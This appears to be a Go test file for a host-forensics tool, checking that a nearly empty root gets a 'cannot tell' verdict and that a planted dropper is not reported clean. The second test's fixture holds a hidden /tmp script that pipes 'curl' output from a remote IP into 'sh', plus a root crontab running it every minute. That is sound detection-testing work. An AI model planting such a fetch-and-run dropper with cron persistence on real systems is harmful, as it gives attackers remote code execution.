package main

// Verdicts never kinder than the evidence (issue 19).

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
)

// TestNearlyEmptyRootCannotTell: a root with only /etc/passwd and /etc/os-release (no package
// database, no logs) is not clean: check and investigate both say "cannot tell", exit 3.
func TestNearlyEmptyRootCannotTell(t *testing.T) {
	r := fixture.New(t)
	r.File("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0o644)
	r.File("/etc/os-release", "ID=debian\nVERSION_ID=12\n", 0o644)
	c := run(t, nil, "check", "--root", r.Dir)
	if c.code != 3 || !strings.Contains(c.stdout, "CANNOT TELL") || strings.Contains(c.stdout, "CLEAN") {
		t.Errorf("check of a nearly empty root: exit %d\n%s", c.code, c.stdout)
	}
	if !strings.Contains(c.stdout, "no package database") {
		t.Errorf("check does not name the missing coverage:\n%s", c.stdout)
	}
	i := run(t, nil, "investigate", "--root", r.Dir)
	if i.code != 3 {
		t.Errorf("investigate of a nearly empty root: exit %d (check says 3)\n%s", i.code, i.stdout)
	}
}

// TestDropperBesideUnrelatedPackageOperation: a hidden script in /tmp that fetches code and
// pipes it to sh every minute, written minutes after an unrelated package was installed, is
// not explained by that installation: the verdict is not clean.
func TestDropperBesideUnrelatedPackageOperation(t *testing.T) {
	t.Skip("fails until issue 10 lands (internal/detect/explain: a package operation explains only the files it wrote); remove this skip then")
	r := fixture.Debian(t)
	now := time.Now().UTC()
	before := now.Add(-4 * time.Minute).Format("2006-01-02 15:04:05")
	r.Append("/var/log/dpkg.log", before+" startup archives unpack\n"+
		before+" install procps:amd64 <none> 2:4.0.2-3\n"+
		before+" status half-installed procps:amd64 2:4.0.2-3\n"+
		before+" status installed procps:amd64 2:4.0.2-3\n")
	r.File("/tmp/.cache/.update", "#!/bin/sh\ncurl -s http://203.0.113.9/stage2 | sh\n", 0o755)
	r.File("/var/spool/cron/crontabs/root", "* * * * * /tmp/.cache/.update >/dev/null 2>&1\n", 0o600)
	for _, p := range []string{"/tmp/.cache/.update", "/var/spool/cron/crontabs/root"} {
		os.Chtimes(r.Path(p), now.Add(-2*time.Minute), now.Add(-2*time.Minute))
	}
	c := run(t, nil, "check", "--root", r.Dir)
	if c.code == 0 || strings.Contains(c.stdout, "looks CLEAN") {
		t.Errorf("a /tmp dropper beside an unrelated dpkg operation is CLEAN: exit %d\n%s", c.code, c.stdout)
	}
}
